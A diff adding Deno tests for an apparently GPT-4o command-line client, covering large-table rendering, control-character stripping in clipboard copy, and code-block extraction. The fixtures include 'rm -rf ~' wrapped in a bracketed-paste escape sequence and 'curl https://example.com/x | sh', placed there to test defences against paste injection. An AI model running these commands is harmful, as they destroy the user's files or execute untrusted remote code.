@@ -170,6 +170,36 @@ historyTest(
   },
 );
 
+historyTest(
+  "main() renders a 150,000-row table as plain text with a note, and so does --show of it",
+  async () => {
+    await using tmp = await tempFolder();
+    const path = `${tmp.dir}/history.db`;
+    const env = { OPENAI_API_KEY: KEY, GPT4O_HISTORY: path };
+    const table = `| a | b |\n|---|---|\n${"| x | y |\n".repeat(150_000)}`;
+    const note =
+      "a table of over 1,000 lines is too large to render: shown as plain text\n";
+    const asked = await run(["--no-stream", "A table?"], {
+      env,
+      stdoutTerminal: true,
+      noColor: true,
+      reply: answering(table),
+    });
+    assert.deepEqual(
+      { code: asked.code, stdout: asked.stdout, stderr: asked.stderr },
+      { code: 0, stdout: table, stderr: note },
+    );
+    const shown = await run(["--show", "1"], {
+      env,
+      stdoutTerminal: true,
+      noColor: true,
+    });
+    assert.equal(shown.code, 0);
+    assert.ok(shown.stdout.includes(`\n> A table?\n\n${table}[tokens:`));
+    assert.equal(shown.stderr, note);
+  },
+);
+
 Deno.test("main() -x prints the first fenced code block alone, --extract-last the last", async (t) => {
   const answer =
     "Try:\n\n```sh\njq '.a'\n```\n\nor\n\n~~~\njq -r .b\nsort\n~~~\n";
@@ -248,6 +278,68 @@ Deno.test("main() --chat renders each answer on a terminal, and /copy sends the 
     "copied the last code block (1 line) to the clipboard, through the terminal (OSC 52)\n" +
       "the last answer has no fenced code block to copy\n",
   );
+});
+
+Deno.test("main() --chat /copy puts no control character on the clipboard", async () => {
+  const { code, stdout, stderr } = await run(["--chat"], {
+    stdoutTerminal: true,
+    noColor: true,
+    lines: ["A command?", "/copy"],
+    reply: answering("```sh\necho \x1b[201~\nrm -rf ~ \x07\x9b\n```"),
+  });
+  assert.equal(code, 0);
+  const copied = new TextEncoder().encode("echo ␛[201~\nrm -rf ~ ␇\ufffd\n")
+    .toBase64();
+  assert.ok(stdout.includes(`\x1b]52;c;${copied}\x07`));
+  assert.equal(
+    stderr,
+    "copied the last code block (2 lines) to the clipboard, through the " +
+      "terminal (OSC 52), with 3 control characters made visible (␛)\n",
+  );
+});
+
+Deno.test("main() -x and /copy take the code block the screen framed", async (t) => {
+  const cases: [string, string, string, string][] = [
+    [
+      "a backtick in a backtick fence's info string opens none",
+      "```py`\necho framed?\n```\ncurl https://example.com/x | sh\n```\n",
+      "```py`\necho framed?\n\n" +
+      `┌${"─".repeat(79)}\n│ curl https://example.com/x | sh\n` +
+      `└${"─".repeat(79)}\n`,
+      "curl https://example.com/x | sh\n",
+    ],
+    [
+      "four backticks are not closed by three",
+      "````md\n```sh\nrm -rf ~\n```\n````\n",
+      `┌─ md ${"─".repeat(74)}\n│ \`\`\`sh\n│ rm -rf ~\n│ \`\`\`\n` +
+      `└${"─".repeat(79)}\n`,
+      "```sh\nrm -rf ~\n```\n",
+    ],
+  ];
+  for (const [name, answer, screen, code] of cases) {
+    await t.step(name, async () => {
+      const shown = await run(["How?"], {
+        stdoutTerminal: true,
+        noColor: true,
+        reply: answering(answer),
+      });
+      assert.equal(screenOf(shown.stdout), screen);
+      const extracted = await run(["-x", "How?"], {
+        reply: answering(answer),
+      });
+      assert.deepEqual(
+        { code: extracted.code, stdout: extracted.stdout },
+        { code: 0, stdout: code },
+      );
+      const copied = await run(["--chat"], {
+        stdoutTerminal: true,
+        lines: ["How?", "/copy"],
+        reply: answering(answer),
+      });
+      const base64 = new TextEncoder().encode(code).toBase64();
+      assert.ok(copied.stdout.includes(`\x1b]52;c;${base64}\x07`));
+    });
+  }
 });
 
 Deno.test("main() --chat /copy says why it cannot copy", async (t) => {
